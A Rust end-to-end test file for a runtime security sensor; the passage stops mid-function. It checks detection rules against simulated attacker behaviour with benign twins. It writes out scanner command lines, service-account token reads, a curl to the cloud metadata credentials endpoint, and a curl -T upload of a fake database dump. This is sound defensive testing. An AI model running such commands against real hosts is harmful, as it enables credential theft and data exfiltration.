//! Real-kernel proof of the shipped detections (root only).
//!
//! One `mamori run` on the workspace's `rules/` directory (alerts to a file)
//! and one `mamori capture --json --events connect,exec` (to check raw
//! connect events) watch all of the main test's scenarios. Each scenario
//! performs the real behaviour with real processes and asserts the expected
//! alert (rule name and key output fields) arrives; each has a benign twin
//! that must produce no such alert. Counts (exactly one alert per firing
//! case, none per twin) are checked at the end, after a sentinel alert
//! proves every earlier event has been evaluated (one ring buffer, one
//! pipeline, one FIFO file sink: alerts come out in event order).
//!
//! Scenarios: renamed scanners; a fake service-account token read in a
//! private mount namespace; a connect to the instance metadata address from
//! a container; `curl -T` to a local server; ssh/scp in a container; a
//! table of cases for the other stateless rules of `rules/mamori_rules.yaml`
//! ([`more_rules`]: renamed `true` binaries, fake credential files, a fake
//! runtime socket, connects made inside `unshare -n`); and the network-scan
//! harness of `common/netns.rs` (vertical scan, horizontal
//! sweep, benign client; every connect event checked, and the stateful scan
//! rules' alerts by [`assert_scan_alerts`]).
//!
//! Network rule: packets go only to 127.0.0.1 or to the test's own network
//! namespace (`common/netns.rs`); the connect to the instance metadata
//! address is made inside `unshare -n` (no route out).
//!
//! Run: `cargo test -p sensor --features e2e --test detections -- --test-threads=1`

#[path = "common/mod.rs"]
mod common;
#[path = "common/container.rs"]
mod container;
#[path = "common/netns.rs"]
mod netns;

use std::{
    collections::BTreeMap,
    io::{Read, Write},
    net::{IpAddr, Ipv4Addr, TcpListener},
    path::{Path, PathBuf},
    process::{Child, Command, ExitStatus, Output, Stdio},
    sync::{
        atomic::{AtomicBool, Ordering},
        mpsc, Arc, Mutex,
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use container::{FakeContainer, InContainer};
use mamori_rules::event::{Event, EvtType};
use netns::{ConnectRun, ScanPlan, TestNet};
use serde_json::Value;

/// How long an expected alert or event may take to show up.
const WAIT: Duration = Duration::from_secs(20);
/// Bound on every helper process the scenarios run.
const CMD_LIMIT: Duration = Duration::from_secs(20);

const RECON: &str = "Network Recon Tool Launched";
const SA_TOKEN: &str = "Service Account Token Read by Unexpected Process";
const UPLOAD: &str = "File Upload with curl or wget";
const REMOTE_SHELL: &str = "Remote Shell Client in Container";
const IMDS_RULE: &str = "Cloud Metadata Service Contacted from Container";
const LINK_LOCAL: &str = "Link-Local Address Contacted from Container";
const ATTACK_TOOL: &str = "Container or Cluster Attack Tool Launched";
const NETCAT_SCAN: &str = "Netcat Port Scan";
const CLOUD_CLI: &str = "Cloud or Kubernetes CLI Launched in Container";
const KUBELET: &str = "Kubelet API Contacted by Network Tool from Container";
const K8S_API: &str = "Kubernetes API Contacted by Network Tool from Container";
const CRED_FILE: &str = "Cloud or Cluster Credential File Read";
const SSH_KEY: &str = "SSH Private Key Read";
const SHADOW: &str = "Shadow File Read by Untrusted Process";
const REMOTE_ADMIN: &str = "Remote Admin Port Contacted by Network Tool from Container";
const DATA_STORE: &str = "Data Store Port Contacted by Network Tool from Container";
const PROC1: &str = "Host Filesystem or Namespace Accessed via /proc/1 from Container";
const RUNTIME_SOCKET: &str = "Container Runtime Socket Accessed from Container";
const ESCAPE_FILE: &str = "Container Escape File Written from Container";
const ENCODING: &str = "Sensitive File Read by Encoding or Archiving Tool";
const REMOTE_COPY: &str = "Remote File Copy Tool Launched";
const DNS_ENCODED: &str = "DNS Lookup of Encoded or Oversized Name";
const REVERSE_SHELL: &str = "Reverse Shell Command Line";
const INTERACTIVE: &str = "Interactive Shell Without Terminal in Container";
const LISTENER: &str = "Netcat or Socat Listener in Container";
const SHELL_PUBLIC: &str = "Shell Connected to Public Address";
const TUNNEL: &str = "Tunnel or Proxy Tool Launched";
const READ_THEN_SEND: &str = "Sensitive File Read Then Outbound Connection";
const READ_THEN_SEND_SHELL: &str = "Sensitive File Read Then Outbound Connection from Shell";
const FAILED_BURST: &str = "Connection Probe Burst in Container";
const DENIED_BURST: &str = "Permission Denied Burst in Container";
const DNS_BURST: &str = "DNS Lookup Burst";
const ARCHIVE_THEN_SEND: &str = "Archive Created Then Outbound Connection from Shell";
/// A documentation address (RFC 5737); only ever dialled inside `unshare -n`.
const PUBLIC_IP: &str = "203.0.113.9";

const SA_DIR: &str = "/var/run/secrets/kubernetes.io/serviceaccount";
const IMDS: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);

// ---------------------------------------------------------------- helpers

/// A temp directory removed on drop.
struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> TempDir {
        let d = std::env::temp_dir().join(format!("mamori-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        TempDir(d)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A copy of `/bin/true` (or `src`) named `name` in `dir`.
fn tool(dir: &Path, name: &str, src: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::copy(src, &p).unwrap_or_else(|e| panic!("copy {src} to {}: {e}", p.display()));
    p
}

/// Run `cmd` to completion within [`CMD_LIMIT`] (killed after it); its pid
/// and output.
fn run_bounded(mut cmd: Command) -> (u32, Output) {
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("spawn {cmd:?}: {e}"));
    let pid = child.id();
    let deadline = Instant::now() + CMD_LIMIT;
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{cmd:?} did not finish within {CMD_LIMIT:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    (pid, child.wait_with_output().unwrap())
}

/// [`run_bounded`] and require success; its pid and stdout.
fn run_ok(cmd: Command) -> (u32, String) {
    let shown = format!("{cmd:?}");
    let (pid, out) = run_bounded(cmd);
    assert!(
        out.status.success(),
        "{shown} failed with {}: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    (pid, String::from_utf8_lossy(&out.stdout).into_owned())
}

/// A running `mamori` child: interrupted (then killed, if need be) on drop.
struct Mamori {
    child: Option<Child>,
    stderr: mpsc::Receiver<String>,
    log: Vec<String>,
}

impl Mamori {
    fn start(cmd: Command) -> Mamori {
        let (child, log, stderr) = common::spawn_until_attached(cmd);
        Mamori {
            child: Some(child),
            stderr,
            log,
        }
    }

    /// SIGINT, then wait (bounded); the exit status and all of stderr.
    fn stop(&mut self) -> (ExitStatus, Vec<String>) {
        let mut child = self.child.take().expect("running");
        // SAFETY: signalling our own child.
        unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
        let deadline = Instant::now() + Duration::from_secs(30);
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            if Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                panic!("mamori did not stop within 30 s of SIGINT");
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        self.log.extend(self.stderr.try_iter());
        (status, std::mem::take(&mut self.log))
    }
}

impl Drop for Mamori {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            // SAFETY: signalling our own child.
            unsafe { libc::kill(c.id() as i32, libc::SIGINT) };
            for _ in 0..500 {
                if c.try_wait().ok().flatten().is_some() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// `mamori run` on the shipped rules, alerts (every priority) to `file`.
fn run_cmd(file: &Path) -> Command {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_mamori"));
    cmd.arg("run")
        .arg("--rules")
        .arg(rules)
        .arg("-o")
        .arg(format!("outputs.file.path={}", file.display()))
        .args(["-o", "outputs.file.minimum_priority=debug"])
        .args(["-o", "outputs.stdout.enabled=false"])
        .env_remove("KUBERNETES_SERVICE_HOST")
        .env_remove("KUBECONFIG");
    cmd
}

/// `mamori capture` of connect and exec events, JSON lines to `file`.
fn capture_cmd(file: &Path) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_mamori"));
    // Exec events too, so the enricher knows the parents of processes gone
    // before their connect is handled.
    cmd.args(["capture", "--json", "--events", "connect,exec", "-o"])
        .arg(file)
        .env_remove("KUBERNETES_SERVICE_HOST")
        .env_remove("KUBECONFIG");
    cmd
}

/// Start `mamori run` and `mamori capture` side by side (attaching takes
/// seconds each); neither is leaked if the other fails.
fn start_both(run: Command, capture: Command) -> (Mamori, Mamori) {
    let (r, c) = std::thread::scope(|s| {
        let r = s.spawn(move || Mamori::start(run));
        let c = s.spawn(move || Mamori::start(capture));
        (r.join(), c.join())
    });
    match (r, c) {
        (Ok(r), Ok(c)) => (r, c),
        (Err(e), _) | (_, Err(e)) => std::panic::resume_unwind(e),
    }
}

/// A JSON-lines file another process appends to, read incrementally.
struct Lines<T> {
    path: PathBuf,
    offset: u64,
    items: Vec<T>,
}

impl<T: serde::de::DeserializeOwned> Lines<T> {
    fn new(path: &Path) -> Self {
        Lines {
            path: path.to_path_buf(),
            offset: 0,
            items: Vec::new(),
        }
    }

    /// Parse the complete lines appended since the last call.
    fn poll(&mut self) {
        let Ok(mut f) = std::fs::File::open(&self.path) else {
            return;
        };
        use std::io::Seek;
        f.seek(std::io::SeekFrom::Start(self.offset)).unwrap();
        let mut buf = Vec::new();
        f.read_to_end(&mut buf).unwrap();
        let complete = buf.iter().rposition(|&b| b == b'\n').map_or(0, |i| i + 1);
        for line in buf[..complete].split(|&b| b == b'\n') {
            if line.is_empty() {
                continue;
            }
            let v = serde_json::from_slice(line).unwrap_or_else(|e| {
                panic!(
                    "bad line in {}: {e}: {}",
                    self.path.display(),
                    String::from_utf8_lossy(line)
                )
            });
            self.items.push(v);
        }
        self.offset += complete as u64;
    }
}

/// The alert file of `mamori run`.
struct Alerts(Lines<Value>);

impl Alerts {
    /// Wait (bounded) until `n` alerts of `rule` satisfy `pred`; returns them.
    fn wait_n(&mut self, rule: &str, n: usize, pred: impl Fn(&Value) -> bool) -> Vec<Value> {
        let deadline = Instant::now() + WAIT;
        loop {
            self.0.poll();
            let hits: Vec<Value> = self
                .0
                .items
                .iter()
                .filter(|a| a["rule"] == rule && pred(a))
                .cloned()
                .collect();
            if hits.len() >= n || Instant::now() > deadline {
                assert_eq!(
                    hits.len(),
                    n,
                    "alerts of {rule:?} matching the scenario; all alerts so far: {:#?}",
                    self.0.items
                );
                return hits;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn wait_one(&mut self, rule: &str, pred: impl Fn(&Value) -> bool) -> Value {
        self.wait_n(rule, 1, pred).remove(0)
    }
}

/// The event file of `mamori capture`. It is flushed when an event arrives
/// 200 ms after the last flush, so polls nudge it with a loopback connect to
/// a closed port.
struct Events {
    lines: Lines<Event>,
    closed_port: u16,
}

impl Events {
    fn new(path: &Path) -> Events {
        let closed_port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        Events {
            lines: Lines::new(path),
            closed_port,
        }
    }

    /// Connect events of process `pid` matching `pred`, waiting (bounded)
    /// until there are at least `n`.
    fn connects_of(&mut self, pid: u32, n: usize, pred: impl Fn(&Event) -> bool) -> Vec<Event> {
        let deadline = Instant::now() + WAIT;
        loop {
            self.lines.poll();
            let mine: Vec<Event> = self
                .lines
                .items
                .iter()
                .filter(|e| e.evt_type == EvtType::Connect && e.proc.pid == pid && pred(e))
                .cloned()
                .collect();
            if mine.len() >= n {
                return mine;
            }
            assert!(
                Instant::now() < deadline,
                "{} of {n} connect events of pid {pid} captured",
                mine.len()
            );
            let _ = std::net::TcpStream::connect_timeout(
                &(Ipv4Addr::LOCALHOST, self.closed_port).into(),
                Duration::from_millis(200),
            );
            std::thread::sleep(Duration::from_millis(250));
        }
    }
}

/// One request a [`HttpServer`] answered: method, target, body.
type Request = (String, String, Vec<u8>);

/// A tiny HTTP/1.1 server on 127.0.0.1 answering 200 to everything; records
/// each request. Stopped and joined on drop.
struct HttpServer {
    port: u16,
    seen: Arc<Mutex<Vec<Request>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl HttpServer {
    /// On 127.0.0.1, an ephemeral port.
    fn start() -> HttpServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        listener.set_nonblocking(true).unwrap();
        HttpServer::serve(port, move || {
            let (s, _) = listener.accept().ok()?;
            s.set_nonblocking(false).ok()?;
            s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
            Some(Box::new(s) as Box<dyn ReadWrite>)
        })
    }

    /// On a unix socket at `path` (like a container runtime's API).
    fn start_unix(path: &Path) -> HttpServer {
        let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
        listener.set_nonblocking(true).unwrap();
        HttpServer::serve(0, move || {
            let (s, _) = listener.accept().ok()?;
            s.set_nonblocking(false).ok()?;
            s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
            Some(Box::new(s) as Box<dyn ReadWrite>)
        })
    }

    fn serve(
        port: u16,
        mut accept: impl FnMut() -> Option<Box<dyn ReadWrite>> + Send + 'static,
    ) -> HttpServer {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen2, stop2) = (seen.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let deadline = Instant::now() + Duration::from_secs(600);
            while !stop2.load(Ordering::Relaxed) && Instant::now() < deadline {
                match accept() {
                    Some(s) => {
                        if let Some(req) = serve_one(s) {
                            seen2.lock().unwrap().push(req);
                        }
                    }
                    None => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        HttpServer {
            port,
            seen,
            stop,
            thread: Some(thread),
        }
    }

    fn requests(&self) -> Vec<Request> {
        self.seen.lock().unwrap().clone()
    }
}

impl Drop for HttpServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

trait ReadWrite: Read + Write {}
impl<T: Read + Write> ReadWrite for T {}

fn serve_one(mut s: Box<dyn ReadWrite>) -> Option<Request> {
    let mut buf = Vec::new();
    let mut b = [0u8; 4096];
    let head_end = loop {
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        if buf.len() > 65536 {
            return None;
        }
        match s.read(&mut b) {
            Ok(0) | Err(_) => return None,
            Ok(n) => buf.extend_from_slice(&b[..n]),
        }
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).to_lowercase();
    let mut words = head.split_whitespace();
    let method = words.next()?.to_uppercase();
    let target = String::from_utf8_lossy(&buf[..head_end])
        .split_whitespace()
        .nth(1)?
        .to_string();
    let len: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0)
        .min(1 << 20);
    if head.contains("expect: 100-continue") {
        s.write_all(b"HTTP/1.1 100 Continue\r\n\r\n").ok()?;
    }
    let mut body = buf[head_end..].to_vec();
    while body.len() < len {
        match s.read(&mut b) {
            Ok(0) | Err(_) => break,
            Ok(n) => body.extend_from_slice(&b[..n]),
        }
    }
    s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
        .ok()?;
    Some((method, target, body))
}

fn field<'a>(a: &'a Value, k: &str) -> &'a str {
    a["output_fields"][k].as_str().unwrap_or("")
}

/// A count checked over all alerts once the sentinel has arrived: `n`
/// alerts match `pred` (0 for a benign twin).
struct Check {
    what: String,
    n: usize,
    pred: Box<dyn Fn(&Value) -> bool>,
}

/// Everything the scenarios share.
struct Ctx {
    dir: PathBuf,
    alerts: Alerts,
    events: Events,
    checks: Vec<Check>,
    /// Container processes kept alive until the sentinel (so the events of
    /// their tools are attributed to the container).
    keep: Vec<InContainer>,
}

impl Ctx {
    /// Wait for the alert of `rule` matching `pred`, and check at the end
    /// that it stayed the only one.
    fn expect_one(
        &mut self,
        what: impl Into<String>,
        rule: &'static str,
        pred: impl Fn(&Value) -> bool + Clone + 'static,
    ) -> Value {
        let a = self.alerts.wait_one(rule, pred.clone());
        self.checks.push(Check {
            what: what.into(),
            n: 1,
            pred: Box::new(move |a| a["rule"] == rule && pred(a)),
        });
        a
    }

    /// A benign twin: at the end, no alert may match `pred`.
    fn twin(&mut self, what: impl Into<String>, pred: impl Fn(&Value) -> bool + 'static) {
        self.checks.push(Check {
            what: what.into(),
            n: 0,
            pred: Box::new(pred),
        });
    }
}

// -------------------------------------------------------------- scenarios

/// Arguments for renamed copies of `/bin/true`: the addresses are only
/// text on a command line, nothing connects to them.
const RECON_RUNS: &[(&str, &[&str])] = &[
    ("nmap", &["-sS", "-p", "1-1024", "10.0.0.0/24"]),
    ("masscan", &["-p0-65535", "10.0.0.0/8", "--rate", "100000"]),
    ("zmap", &["-p", "443", "10.0.0.0/8"]),
    ("arp-scan", &["--localnet"]),
    ("nping", &["--tcp", "-p", "80", "10.0.0.5"]),
    ("hping3", &["-S", "-p", "80", "--flood", "10.0.0.5"]),
    ("netdiscover", &["-r", "10.0.0.0/24", "-P"]),
    ("fping", &["-a", "-g", "10.0.0.0/24"]),
    ("rustscan", &["-a", "10.0.0.0/24", "--ulimit", "5000"]),
    ("nuclei", &["-u", "http://10.0.0.5:8080"]),
];

/// Renamed `true` binaries named like scanners, with scanner arguments.
fn recon_tools(cx: &mut Ctx) {
    let dir = cx.dir.join("recon");
    std::fs::create_dir_all(&dir).unwrap();
    // Benign twin first: the same binary, an ordinary name, the same args.
    let ordinary = tool(&dir, "inventory", "/bin/true");
    run_ok({
        let mut c = Command::new(&ordinary);
        c.args(RECON_RUNS[0].1);
        c
    });
    let ordinary_s = ordinary.display().to_string();
    cx.twin("a renamed true with an ordinary name", move |a| {
        field(a, "proc.exepath") == ordinary_s
    });
    for (name, args) in RECON_RUNS {
        let exe = tool(&dir, name, "/bin/true");
        run_ok({
            let mut c = Command::new(&exe);
            c.args(*args);
            c
        });
        let exe_s = exe.display().to_string();
        let a = cx.expect_one(format!("{name} run"), RECON, move |a| {
            field(a, "proc.exepath") == exe_s
        });
        assert_eq!(
            field(&a, "proc.cmdline"),
            format!("{name} {}", args.join(" "))
        );
        assert_eq!(field(&a, "container.id"), "host");
        assert_eq!(a["priority"], "Warning");
        assert_eq!(a["source"], "syscall");
        assert!(
            a["tags"].as_array().unwrap().iter().any(|t| t == "T1046"),
            "{a:#}"
        );
    }
}

/// A fake service-account token in a private mount namespace: `cat` and
/// `head` read it (alerts); an allow-listed agent name reading it and `cat`
/// reading a token elsewhere do not alert.
fn sa_token(cx: &mut Ctx) {
    let pid = std::process::id();
    let agent = tool(&cx.dir, "aws-node", "/bin/cat");
    let token = format!("mamori-e2e-fake-token-{pid}");
    let other = format!("/run/mamori-e2e-{pid}");
    // `unshare -m` makes a mount namespace with private propagation: the
    // tmpfs over /run (/var/run links to it) exists only for this shell.
    let script = format!(
        "set -e
mount -t tmpfs -o size=1m,mode=0755 mamori-e2e /run
mkdir -p /run/secrets/kubernetes.io/serviceaccount {other}
printf %s {token} > /run/secrets/kubernetes.io/serviceaccount/token
printf %s {token} > {other}/token
{agent} {SA_DIR}/token; echo
cat {other}/token; echo
cat {SA_DIR}/token; echo
head -c 64 /run/secrets/kubernetes.io/serviceaccount/token; echo
",
        agent = agent.display(),
    );
    let mut c = Command::new("unshare");
    c.args(["-m", "--propagation", "private", "sh", "-c", &script]);
    let (_, out) = run_ok(c);
    assert_eq!(
        out,
        format!("{token}\n").repeat(4),
        "every read got the token"
    );
    let host_token = std::fs::read_to_string(format!("{SA_DIR}/token")).ok();
    assert!(
        host_token.as_deref() != Some(token.as_str()) && !Path::new(&other).exists(),
        "the private mounts leaked to the host"
    );

    let a = cx.expect_one("cat of the token", SA_TOKEN, |a| {
        field(a, "proc.cmdline") == format!("cat {SA_DIR}/token")
    });
    assert_eq!(field(&a, "fd.name"), format!("{SA_DIR}/token"));
    assert_eq!(field(&a, "proc.pname"), "sh");
    assert_eq!(field(&a, "user.name"), "root");
    assert_eq!(field(&a, "container.id"), "host");
    assert_eq!(a["priority"], "Warning");
    let a = cx.expect_one("head of the token", SA_TOKEN, |a| {
        field(a, "proc.cmdline") == "head -c 64 /run/secrets/kubernetes.io/serviceaccount/token"
    });
    assert_eq!(
        field(&a, "fd.name"),
        "/run/secrets/kubernetes.io/serviceaccount/token"
    );
    cx.twin("token read by an allow-listed agent name", |a| {
        a["rule"] == SA_TOKEN && field(a, "proc.cmdline").starts_with("aws-node ")
    });
    cx.twin("a token file outside serviceaccount/", move |a| {
        a["rule"] == SA_TOKEN && field(a, "fd.name").starts_with(&other)
    });
}

/// A connect to the instance metadata address from a container, inside a
/// fresh network namespace (no route out: the connect fails, nothing is
/// sent). Asserted on the captured connect event and on the alert; the same
/// connect from the host must not alert.
fn imds(cx: &mut Ctx, ctr: &FakeContainer) {
    let curl_args = [
        "-n",
        "curl",
        "-sS",
        "--connect-timeout",
        "1",
        "--max-time",
        "3",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ];
    // In the container (its container process stays until the event is in).
    let run = ctr.spawn("unshare", &curl_args);
    // curl: 7 = could not connect (the namespace has no route at all).
    assert_eq!(run.code, Some(7), "curl in an empty netns");
    let e = imds_connect(cx, run.pid);
    cx.keep.push(run);
    let c = e
        .container
        .as_ref()
        .unwrap_or_else(|| panic!("not enriched: {e:#?}"));
    assert_eq!(c.id, ctr.short_id(), "{e:#?}");
    assert_eq!(c.full_id, ctr.id);
    assert_eq!(c.runtime.as_deref(), Some("containerd"));
    let cmdline = format!("curl {}", curl_args[2..].join(" "));
    let cid = ctr.short_id().to_string();
    let a = cx.expect_one("curl to the metadata service in a container", IMDS_RULE, {
        let cmdline = cmdline.clone();
        move |a| field(a, "proc.cmdline") == cmdline && field(a, "container.id") == cid
    });
    assert_eq!(field(&a, "fd.rip"), "169.254.169.254");
    assert_eq!(text(&a, "fd.rport"), "80");
    assert_eq!(field(&a, "evt.res"), "ENETUNREACH");
    assert_eq!(a["priority"], "Notice");
    // The same on the host: not attributed to the container, no alert.
    let cid_host = ctr.short_id().to_string();
    let mut c = Command::new("unshare");
    c.args(curl_args);
    let (pid, out) = run_bounded(c);
    assert_eq!(out.status.code(), Some(7), "curl in an empty netns");
    let e = imds_connect(cx, pid);
    assert!(
        e.container.as_ref().is_none_or(|c| c.id != ctr.short_id()),
        "{e:#?}"
    );
    cx.twin("curl to the metadata service on the host", move |a| {
        a["rule"] == IMDS_RULE
            && field(a, "proc.cmdline") == cmdline
            && field(a, "container.id") != cid_host
    });
}

/// The captured connect of `pid` to the metadata address: port 80, failed
/// with ENETUNREACH (no route in the empty namespace), made by curl.
fn imds_connect(cx: &mut Ctx, pid: u32) -> Event {
    // (curl may first try a unix socket, e.g. nscd's.)
    let imds: Vec<Event> = cx.events.connects_of(pid, 1, |e| {
        e.fd.as_ref().and_then(|f| f.rip) == Some(IpAddr::V4(IMDS))
    });
    assert_eq!(imds.len(), 1, "{imds:#?}");
    let e = imds.into_iter().next().unwrap();
    let f = e.fd.as_ref().expect("socket");
    assert_eq!(f.rport, Some(80));
    assert_eq!(e.res, -(libc::ENETUNREACH as i64), "{e:#?}");
    assert_eq!(e.proc.name, "curl");
    e
}

/// `curl -T` to a local server (alert) and a plain download (no alert).
fn upload(cx: &mut Ctx) {
    let pid = std::process::id();
    let server = HttpServer::start();
    let secret = cx.dir.join("db-dump.sql");
    let content = format!("secret rows {pid}\n");
    std::fs::write(&secret, &content).unwrap();
    let down = format!("http://127.0.0.1:{}/download-{pid}", server.port);
    let up = format!("http://127.0.0.1:{}/upload-{pid}", server.port);
    let mut c = Command::new("curl");
    c.args(["-sS", "-o", "/dev/null", &down]);
    run_ok(c);
    let mut c = Command::new("curl");
    c.args(["-sS", "-T"]).arg(&secret).arg(&up);
    run_ok(c);
    let reqs = server.requests();
    assert!(
        reqs.iter()
            .any(|(m, t, _)| m == "GET" && *t == format!("/download-{pid}")),
        "{reqs:?}"
    );
    assert!(
        reqs.iter().any(|(m, t, b)| m == "PUT"
            && *t == format!("/upload-{pid}")
            && b == content.as_bytes()),
        "the server got the file: {reqs:?}"
    );
    let cmdline = format!("curl -sS -T {} {up}", secret.display());
    let a = cx.expect_one("curl -T", UPLOAD, move |a| {
        field(a, "proc.cmdline") == cmdline
    });
    assert_eq!(field(&a, "proc.name"), "curl");
    assert_eq!(field(&a, "container.id"), "host");
    assert_eq!(a["priority"], "Warning");
    assert!(a["output"]
        .as_str()
        .unwrap()
        .contains("File upload with curl"));
    cx.twin("a curl download", move |a| {
        a["rule"] == UPLOAD && field(a, "proc.cmdline").contains(&format!("download-{pid}"))
    });
}

/// Renamed `true` binaries called `ssh` / `scp`, in a container (alert) and
/// on the host (no alert).
fn remote_shell(cx: &mut Ctx, ctr: &FakeContainer) {
    let pid = std::process::id();
    let dir = cx.dir.join("rsh");
    std::fs::create_dir_all(&dir).unwrap();
    let ssh = tool(&dir, "ssh", "/bin/true");
    let scp = tool(&dir, "scp", "/bin/true");
    let host_mark = format!("mamori-e2e-{pid}-host");
    let ctr_mark = format!("mamori-e2e-{pid}-ctr");
    let mut c = Command::new(&ssh);
    c.args(["-o", "BatchMode=yes", "deploy@10.0.0.5", &host_mark]);
    run_ok(c);
    let ssh_args = ["-o", "BatchMode=yes", "deploy@10.0.0.5", ctr_mark.as_str()];
    let scp_src = format!("/etc/{ctr_mark}");
    let scp_args = [scp_src.as_str(), "deploy@10.0.0.5:/tmp/"];
    for (name, exe, args) in [("ssh", &ssh, &ssh_args[..]), ("scp", &scp, &scp_args[..])] {
        // Released (the container process exits) once the alert is in.
        let run = ctr.spawn(exe, args);
        assert_eq!(run.code, Some(0));
        let cmdline = format!("{name} {}", args.join(" "));
        let a = cx.expect_one(format!("{name} in a container"), REMOTE_SHELL, move |a| {
            field(a, "proc.cmdline") == cmdline
        });
        assert_eq!(field(&a, "container.id"), ctr.short_id(), "{a:#}");
        assert_eq!(field(&a, "user.name"), "root");
        assert_eq!(a["priority"], "Notice");
        assert!(
            a["tags"].as_array().unwrap().iter().any(|t| t == "T1021"),
            "{a:#}"
        );
        run.release();
    }
    cx.twin("ssh on the host", move |a| {
        a["rule"] == REMOTE_SHELL && field(a, "proc.cmdline").contains(&host_mark)
    });
}

/// Where a [`Case`] runs.
#[derive(Clone, Copy, PartialEq)]
enum At {
    Host,
    Container,
}

/// One more behaviour for the stateless rules: `prog` (a renamed
/// `/bin/true` when `fake`, else a real program) with `args`, on the host or
/// in the container, inside `unshare -n` when `netns` (so connects to
/// anything but loopback leave no packet). `fires` must alert exactly once;
/// the rules in `quiet` must not alert for it. The alert is found by
/// `proc.cmdline` and `container.id`.
struct Case {
    what: &'static str,
    prog: &'static str,
    fake: bool,
    args: Vec<String>,
    at: At,
    netns: bool,
    /// Expected exit code (None: depends on the machine).
    code: Option<i32>,
    fires: Option<&'static str>,
    quiet: &'static [&'static str],
}

fn case(what: &'static str, prog: &'static str, args: &[&str], at: At) -> Case {
    Case {
        what,
        prog,
        fake: false,
        args: args.iter().map(|a| a.to_string()).collect(),
        at,
        netns: false,
        code: Some(0),
        fires: None,
        quiet: &[],
    }
}

impl Case {
    /// A renamed `/bin/true` called `prog`.
    fn fake(mut self) -> Case {
        self.fake = true;
        self
    }
    /// In a fresh, empty network namespace; `code` is the tool's exit code
    /// when its connect fails (curl 7, bash 1).
    fn netns(mut self, code: i32) -> Case {
        self.netns = true;
        self.code = Some(code);
        self
    }
    fn code(mut self, code: Option<i32>) -> Case {
        self.code = code;
        self
    }
    fn fires(mut self, rule: &'static str) -> Case {
        self.fires = Some(rule);
        self
    }
    fn quiet(mut self, rules: &'static [&'static str]) -> Case {
        self.quiet = rules;
        self
    }
}

/// IPv4 addresses outside 127.0.0.0/8 written in `arg`.
fn non_loopback_ips(arg: &str) -> Vec<Ipv4Addr> {
    arg.split(|ch: char| !(ch.is_ascii_digit() || ch == '.'))
        .filter_map(|t| t.parse::<Ipv4Addr>().ok())
        .filter(|ip| !ip.is_loopback() && !ip.is_unspecified())
        .collect()
}

fn run_case(cx: &mut Ctx, ctr: &FakeContainer, i: usize, c: &Case) {
    // The network rule: a real program given a non-loopback address runs in
    // a fresh, empty network namespace, so nothing leaves this machine.
    if !c.fake && !c.netns {
        let ips: Vec<Ipv4Addr> = c.args.iter().flat_map(|a| non_loopback_ips(a)).collect();
        assert!(
            ips.is_empty(),
            "{}: real program with {ips:?} outside unshare -n",
            c.what
        );
    }
    let exe = if c.fake {
        let d = cx.dir.join(format!("case{i}"));
        std::fs::create_dir_all(&d).unwrap();
        tool(&d, c.prog, "/bin/true")
    } else {
        PathBuf::from(c.prog)
    };
    let mut argv: Vec<String> = Vec::new();
    let prog = if c.netns {
        argv.push("-n".into());
        argv.push(exe.display().to_string());
        PathBuf::from("unshare")
    } else {
        exe.clone()
    };
    argv.extend(c.args.iter().cloned());
    let code = match c.at {
        At::Host => {
            let mut cmd = Command::new(&prog);
            cmd.args(&argv);
            run_bounded(cmd).1.status.code()
        }
        At::Container => {
            let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
            let run = ctr.spawn(&prog, &argv);
            let code = run.code;
            cx.keep.push(run);
            code
        }
    };
    if c.code.is_some() {
        assert_eq!(code, c.code, "exit code of {}", c.what);
    }
    let name = exe.file_name().unwrap().to_string_lossy().into_owned();
    let cmdline = std::iter::once(name)
        .chain(c.args.iter().cloned())
        .collect::<Vec<_>>()
        .join(" ");
    // Fires: exactly this process's attribution. Quiet: any alert for the
    // command outside the container (host twins), or inside it.
    let ctr_id = ctr.short_id().to_string();
    let at = c.at;
    let fire_pred = {
